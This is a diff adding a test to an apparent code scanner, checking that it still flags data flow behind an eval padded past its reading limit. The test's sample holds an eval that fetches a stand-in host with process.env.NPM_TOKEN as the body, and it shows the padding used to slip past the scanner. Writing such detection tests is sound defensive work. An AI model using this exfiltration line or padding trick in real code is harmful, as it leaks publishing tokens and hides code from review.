@@ -138,3 +138,15 @@ it('is told where more texts are run as code than are looked at', () => {
   expect(unreadAt(200)).toEqual([]);
   expect(unreadAt(201)).toEqual(['it runs more texts as code than are looked at']);
 });
+
+it('looks at what is run behind a text that is too long', () => {
+  const run = `eval("fetch('https://take.example', { body: process.env.NPM_TOKEN })");`;
+  const { observations, unread } = readCodeFile(
+    'index.js',
+    `eval('${' '.repeat(2_000_001)}'); ${run}`,
+  );
+  expect(unread.map(({ detail }) => detail)).toEqual([
+    'it runs more texts as code than are looked at',
+  ]);
+  expect(observations.map(({ kind }) => kind)).toContain('data.flow');
+});
